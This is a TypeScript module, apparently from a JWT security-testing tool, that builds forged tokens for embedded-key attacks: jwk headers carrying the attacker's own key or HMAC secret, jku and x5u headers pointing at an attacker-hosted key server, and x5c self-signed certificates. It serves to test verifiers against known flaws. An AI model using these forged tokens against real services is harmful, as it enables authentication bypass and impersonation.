import { createPublicKey, randomBytes, type KeyObject } from 'node:crypto';
import type { ForgedAttack } from '../attack-types.js';
import { attackerKeyFor, signWith, type AttackAlgorithm } from '../attack-signer.js';
import { createSelfSignedCertificate } from '../self-signed-certificate.js';
import { forgeToken, withHeader, type CatalogueContext } from './catalogue-context.js';

function publicJwkOf(key: KeyObject): Record<string, unknown> {
  return { ...createPublicKey(key).export({ format: 'jwk' }) };
}

/**
 * Tokens that bring their own key (RFC 7515 §4.1.2 to §4.1.6), signed by the attacker:
 * `jwk` with the attacker's public key (CVE-2018-0114) or an HMAC secret, `jku` and `x5u`
 * pointing at the attacker server, and `x5c` with a self-signed certificate. RFC 8725
 * §3.10: such headers must not be trusted, and URLs in them must not be fetched blindly.
 *
 * @example
 * const attacks = buildEmbeddedKeyAttacks(context);
 */
export function buildEmbeddedKeyAttacks(context: CatalogueContext): ForgedAttack[] {
  const { parts, attackerKeys } = context;
  const originalKid = typeof parts.header['kid'] === 'string' ? parts.header['kid'] : undefined;
  const attacks: ForgedAttack[] = [];
  const signed = (alg: AttackAlgorithm, key: KeyObject | Buffer, header: Record<string, unknown>) =>
    forgeToken(withHeader(parts, { ...header, alg }), parts.payload, (input) =>
      signWith(alg, key, input),
    );

  for (const alg of ['EdDSA', 'ES256', 'RS256'] as const) {
    const key = attackerKeys[alg];
    attacks.push({
      id: `embedded-key/jwk-${alg}`,
      category: 'embedded-key',
      sent: `alg ${alg}, header jwk = the attacker's own public key, signed with it`,
      token: signed(alg, key, { jwk: { ...publicJwkOf(key), kid: originalKid } }),
    });
  }
  const secret = randomBytes(32);
  attacks.push({
    id: 'embedded-key/jwk-oct-HS256',
    category: 'embedded-key',
    sent: 'alg HS256, header jwk = an attacker HMAC secret (kty oct), signed with it',
    token: signed('HS256', secret, { jwk: { kty: 'oct', k: secret.toString('base64url') } }),
  });

  // The attacker key of the target's key type, published under the target's own kid, so a
  // verifier that fetches the URL and looks the kid up there finds the attacker's key.
  const { alg, key } = attackerKeyFor(String(parts.header['alg']), attackerKeys);
  const jwks = JSON.stringify({
    keys: [{ ...publicJwkOf(key), kid: originalKid, alg, use: 'sig' }],
  });
  const jkuUrl = context.publish('jku', { contentType: 'application/json', body: jwks });
  attacks.push({
    id: 'embedded-key/jku-attacker-url',
    category: 'embedded-key',
    sent: `alg ${alg}, header jku = ${jkuUrl} (the attacker's JWKS), signed with the attacker key`,
    token: signed(alg, key, { jku: jkuUrl }),
    watchPaths: [new URL(jkuUrl).pathname],
  });

  const certificate = createSelfSignedCertificate(attackerKeys.ES256, 'tessera attack');
  const pem = `-----BEGIN CERTIFICATE-----\n${(certificate.toString('base64').match(/.{1,64}/g) ?? []).join('\n')}\n-----END CERTIFICATE-----\n`;
  const x5uUrl = context.publish('x5u', {
    contentType: 'application/pem-certificate-chain',
    body: pem,
  });
  attacks.push({
    id: 'embedded-key/x5u-attacker-url',
    category: 'embedded-key',
    sent: `alg ES256, header x5u = ${x5uUrl} (a self-signed certificate), signed with its key`,
    token: signed('ES256', attackerKeys.ES256, { x5u: x5uUrl }),
    watchPaths: [new URL(x5uUrl).pathname],
  });
  attacks.push({
    id: 'embedded-key/x5c-self-signed',
    category: 'embedded-key',
    sent: 'alg ES256, header x5c = a self-signed certificate, signed with its key',
    token: signed('ES256', attackerKeys.ES256, { x5c: [certificate.toString('base64')] }),
  });
  return attacks;
}
